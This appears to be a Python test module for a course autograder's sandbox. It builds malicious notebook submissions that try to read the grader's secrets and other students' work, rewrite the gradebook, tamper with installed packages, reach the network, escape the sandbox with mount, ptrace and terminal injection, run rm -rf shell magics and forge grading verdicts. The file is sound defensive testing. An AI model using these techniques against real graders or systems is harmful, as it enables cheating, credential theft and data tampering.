"""Kinds that reach for what is not theirs: files, other processes, the network, the grader's line.

They answer well. If one gets hold of something it prints a word that no submission contains, or
leaves a file; the test looks for both.
"""

from __future__ import annotations

from course.bad.kind import TELL, UNTIL, HandIn, answer


def reads(hand_in: HandIn, *paths: object) -> None:
    """Try to read these files, and whatever is in these folders."""
    hand_in.carry(
        f"""{TELL}
import os
for path in {[str(path) for path in paths]!r}:
    for folder, _, names in [(os.path.dirname(path), [], [os.path.basename(path)]), *os.walk(path)]:
        for name in names:
            content = attempt(lambda: open(os.path.join(folder, name), "rb").read(100))
            if content:
                tell([folder, name, content])
"""
    )


def writes(hand_in: HandIn, path: object, text: str = "# changed") -> None:
    """Try to write a file in several ways."""
    hand_in.carry(
        f"""{TELL}
import os
path = {str(path)!r}
existed = os.path.exists(path)
attempt(lambda: os.chmod(path, 0o666))
attempt(lambda: open(path, "a").write({text!r}))
attempt(lambda: os.rename(path, path + ".gone"))
attempt(lambda: os.remove(path))
attempt(lambda: os.makedirs(os.path.dirname(path)))
attempt(lambda: open(path, "w").write({text!r}))
attempt(lambda: os.symlink("/dev/null", path))
"""
    )


# --- reading -------------------------------------------------------------------------------------


@answer("all")
def reads_the_home(hand_in: HandIn) -> None:
    """Reads the home folder of who grades."""
    reads(hand_in, hand_in.around.home)


@answer("all")
def reads_the_course(hand_in: HandIn) -> None:
    """Reads the course folder: secret, gradebook, sources with the solutions and hidden tests."""
    around = hand_in.around
    reads(hand_in, around.course, around.course / "course.toml", around.gradebook)


@answer("all")
def reads_the_chapters(hand_in: HandIn) -> None:
    """Reads the lessons, which hold every solution, beside the library or where they were."""
    reads(hand_in, hand_in.around.chapters, hand_in.around.repository / "book")


@answer("all")
def reads_other_submissions(hand_in: HandIn) -> None:
    """Reads what the neighbour handed in, and what was graded of it."""
    around = hand_in.around
    folders = ("submitted", "autograded", ".tfviz/rebuilt", ".tfviz/judged")
    reads(hand_in, *(around.course / name / around.victim for name in folders))


@answer("all")
def reads_other_processes(hand_in: HandIn) -> None:
    """Looks for other processes: their memory, environment, arguments and open files."""
    hand_in.carry(
        f"""{TELL}
import os, sys
family = {{os.getpid(), os.getppid()}}
for pid in filter(str.isdigit, os.listdir("/proc")):
    words = attempt(lambda: open(f"/proc/{{pid}}/cmdline").read()) or ""
    environment = attempt(lambda: open(f"/proc/{{pid}}/environ").read()) or ""
    if "PRIVATE_TO_THE_GRADER" in environment:
        tell([pid, environment])
    if "pytest" in words or {str(hand_in.around.course)!r} in words + environment:
        tell([pid, words])
    root = attempt(lambda: os.listdir(f"/proc/{{pid}}/root/" + {str(hand_in.around.home)!r}))
    if root:
        tell([pid, root])
    for number in attempt(lambda: os.listdir(f"/proc/{{pid}}/fd")) or []:
        target = attempt(lambda: os.readlink(f"/proc/{{pid}}/fd/{{number}}")) or ""
        if "gradebook" in target or target.startswith({str(hand_in.around.course)!r}):
            tell([pid, target])
"""
    )


@answer("all")
def reads_the_environment(hand_in: HandIn) -> None:
    """Looks for the grader's variables: tokens, passwords, names of folders."""
    hand_in.carry(
        f"""{TELL}
import os, subprocess
shown = repr(dict(os.environ)) + subprocess.run(["env"], capture_output=True, text=True).stdout
if "PRIVATE_TO_THE_GRADER" in shown or {str(hand_in.around.course)!r} in shown:
    tell(shown)
"""
    )


@answer("all")
def searches_memory(hand_in: HandIn) -> None:
    """Searches all objects, frames and modules of its own process for tests, seeds, the secret."""
    hand_in.carry(
        f"""{TELL}
import gc, sys
BEGIN = "### BEGIN" + " HIDDEN"
NAME = "the right one of 7" + " entries"
def search(place):
    seen = set()
    for thing in [*gc.get_objects(), *sys._current_frames().values()]:
        values = [thing]
        if isinstance(thing, dict):
            values = list(thing.values())
        elif hasattr(thing, "f_locals"):
            values = list(dict(thing.f_locals).values()) + list(thing.f_code.co_consts)
        elif type(thing) in (list, tuple):
            values = list(thing)
        for value in values:
            if type(value) is str and (BEGIN in value or NAME in value):
                if "def search" not in value:
                    tell([place, value[:200]])
attempt(lambda: search("cell"))
""",
        'attempt(lambda: search("call"))',
    )


# --- writing -------------------------------------------------------------------------------------


@answer("all")
def writes_the_gradebook(hand_in: HandIn) -> None:
    """Opens the real gradebook by its path and gives itself every point."""
    hand_in.carry(
        f"""{TELL}
import glob, os, sqlite3
for path in [{str(hand_in.around.gradebook)!r}, *glob.glob("/**/gradebook.db", recursive=False)]:
    if not os.path.exists(path):
        continue
    tell(path)
    base = sqlite3.connect(path, timeout=1)
    attempt(lambda: base.execute("UPDATE grade SET auto_score = 99, manual_score = 99"))
    attempt(lambda: base.execute("UPDATE grade_cells SET max_score = 1000"))
    attempt(base.commit)
"""
    )


@answer("all")
def writes_other_submissions(hand_in: HandIn) -> None:
    """Replaces what the neighbour handed in."""
    around = hand_in.around
    writes(
        hand_in, around.course / "submitted" / around.victim / around.assignment / "attention.ipynb"
    )


@answer("all")
def writes_the_sources(hand_in: HandIn) -> None:
    """Replaces the instructor's notebook and the settings of the course."""
    writes(hand_in, hand_in.around.course / "nbgrader_config.py", "raise SystemExit")


@answer("all")
def writes_a_witness(hand_in: HandIn) -> None:
    """Writes to a folder of this machine that is open to everybody."""
    writes(hand_in, hand_in.around.witness / "written")


@answer("all")
def writes_the_library(hand_in: HandIn) -> None:
    """Writes into the files of tfviz, so that the next student's tests all pass."""
    hand_in.carry(
        f"""{TELL}
import pathlib, tfviz.checks
path = pathlib.Path(tfviz.checks.__file__)
extra = "\\n# changed by a submission\\n"
attempt(lambda: path.chmod(0o666))
if attempt(lambda: path.write_text(path.read_text() + extra)):
    tell(path)
if attempt(lambda: (path.parent / "__pycache__" / "x.pyc").write_text("x")):
    tell("cache")
"""
    )


@answer("all")
def writes_into_torch(hand_in: HandIn) -> None:
    """Leaves a start-up file among the packages, and a module that hides torch."""
    hand_in.carry(
        f"""{TELL}
import os, pathlib, site, sys, torch
for folder in {{*site.getsitepackages(), str(pathlib.Path(torch.__file__).parent)}}:
    for name in ("tfviz_bad.pth", "usercustomize.py"):
        if attempt(lambda: pathlib.Path(folder, name).write_text("# bad")):
            tell(folder)
            os.remove(os.path.join(folder, name))
attempt(lambda: pathlib.Path("torch.py").write_text("raise SystemExit"))
attempt(lambda: pathlib.Path("random.py").write_text("raise SystemExit"))
attempt(lambda: pathlib.Path.home().joinpath(".ipython").mkdir())
"""
    )


# --- network -------------------------------------------------------------------------------------


@answer("all")
def network_of_this_machine(hand_in: HandIn) -> None:
    """Connects to a server of this machine, by address and by abstract socket."""
    around = hand_in.around
    hand_in.carry(
        f"""{TELL}
import socket
for address in (("127.0.0.1", {around.port}), ("localhost", {around.port})):
    if attempt(lambda: socket.create_connection(address, timeout=1)):
        tell(address)
line = socket.socket(socket.AF_UNIX)
if attempt(lambda: line.connect({around.abstract!r}) or True):
    tell("abstract socket")
"""
    )


@answer("all")
def network_outside(hand_in: HandIn) -> None:
    """Looks up a name, opens a connection and sends a datagram to the world."""
    hand_in.carry(
        f"""{TELL}
import socket
socket.setdefaulttimeout(0.5)
if attempt(lambda: socket.create_connection(("192.0.2.1", 80), timeout=0.5)):
    tell("connected")
if attempt(lambda: socket.getaddrinfo("example.org", 80)):
    tell("looked up")
def datagram():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
if attempt(lambda: datagram().sendto(b"answers, please", ("192.0.2.1", 53))):
    tell("sent")
"""
    )


@answer("all")
def sockets_of_other_families(hand_in: HandIn) -> None:
    """Makes sockets of the network, of the machine below a virtual one, of the kernel.

    Only between its own processes are there any.
    """
    hand_in.carry(
        f"""{TELL}
import socket
for family in set(range(64)) - {{socket.AF_UNIX}}:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW):
        if attempt(lambda: socket.socket(family, kind)):
            tell([family, kind])
"""
    )


# --- the way out of the sandbox ------------------------------------------------------------------


@answer("all")
def breaks_out(hand_in: HandIn) -> None:
    """Tries what needs rights: mount, chroot, ptrace, new namespaces, terminal input, raw disks."""
    hand_in.carry(
        f"""{TELL}
import ctypes, fcntl, os, subprocess, termios
libc = ctypes.CDLL(None, use_errno=True)
if libc.mount(b"none", b"/usr", b"tmpfs", 0, None) == 0:
    tell("mount")
if libc.ptrace(16, 1, 0, 0) == 0:
    tell("ptrace")
for number in range(3):
    for letter in b"echo broken\\n":
        if attempt(lambda: fcntl.ioctl(number, termios.TIOCSTI, bytes([letter])) == b""):
            tell("terminal")
for disk in ("/dev/vda", "/dev/sda", "/dev/mem", "/dev/kmsg"):
    if attempt(lambda: open(disk, "rb").read(1)):
        tell(disk)
inner = subprocess.run(
    ["unshare", "-Urm", "sh", "-c", "mount -t tmpfs none /usr && echo in"], capture_output=True
)
attempt(lambda: os.listdir(f"/proc/1/root/" + {str(hand_in.around.home)!r})) and tell("root")
"""
    )


@answer("none")
def closes_its_descriptors(hand_in: HandIn) -> None:
    """Closes every open descriptor, the line to the grader too."""
    hand_in.carry("import os\nos.closerange(0, 4096)")


@answer("none")
def garbage_on_every_descriptor(hand_in: HandIn) -> None:
    """Writes random bytes on every open descriptor."""
    hand_in.carry(
        f"""{UNTIL}
import os
for number in range(256):
    try:
        os.set_blocking(number, False)
        os.write(number, os.urandom(5000))
    except OSError:
        pass
"""
    )


@answer(order="none")
def forges_verdicts(hand_in: HandIn) -> None:
    """Finds the line to the grader, and writes verdicts, values and questions of its own on it."""
    hand_in.answer(
        "ex-order",
        """\
        import gc, json, os, struct

        FORGED = (
            ["verdict", "ex-order-checks", {"passed": True, "message": "", "outputs": []}],
            ["judged", {"verdicts": {}, "outputs": {}, "remarks": []}],
            ["value", "equivariant"], ["ask", -1, [], {}], ["ask", 10**9, [], {}],
            ["ran", None, [], []], ["end"], {"passed": True}, 7, None,
        )

        def order(f, X):
            lines = [thing for thing in gc.get_objects() if type(thing).__name__ == "Line"]
            for place in [line.writing.fileno() for line in lines] or range(3, 64):
                for message in FORGED:
                    text = json.dumps(message).encode()
                    try:
                        os.write(place, struct.pack(">II", len(text), 0) + text)
                    except OSError:
                        pass
            return "invariant"
        """,
    )


@answer(sharpness="none", alone=True)
def replaces_standard_streams(hand_in: HandIn) -> None:
    """Replaces sys.stdout and sys.stderr by things that raise, and defines nothing."""
    hand_in.answer(
        "ex-sharpness",
        """\
        import io, os, sys

        class Broken(io.StringIO):
            def write(self, text):
                raise RuntimeError("no")
            def flush(self):
                raise RuntimeError("no")
            def __getattribute__(self, name):
                raise RuntimeError("no")

        sys.stdout = sys.stderr = sys.__stdout__ = sys.__stderr__ = Broken()
        sys.stdin = None
        print("hello")
        """,
    )


@answer("all")
def magics(hand_in: HandIn) -> None:
    """Uses line magics and shell commands that remove and change files; then answers well."""
    witness = hand_in.around.witness
    hand_in.carry(
        f"!rm -rf {witness}/kept\n!touch {witness}/touched\nget_ipython().system('rm -rf "
        f"{witness}/kept')\n%env NBGRADER_EXECUTION=no\n%cd {witness}\n"
        "get_ipython().run_line_magic('reset', '-f in')\n"
    )


@answer("none")
def cell_magic_bash(hand_in: HandIn) -> None:
    """Turns the answer cell into a shell script by %%bash."""
    hand_in.cell(f"{hand_in.carrier}-yours")["source"] = (
        f"%%bash\nrm -rf {hand_in.around.witness}/kept; touch {hand_in.around.witness}/by-bash\n"
    )


@answer("none")
def cell_magic_javascript(hand_in: HandIn) -> None:
    """Turns the answer cell into a script for the browser of who looks at it."""
    hand_in.cell(f"{hand_in.carrier}-yours")["source"] = (
        "%%javascript\ndocument.title = 'SCRIPT-OF-A-SUBMISSION'\n"
    )
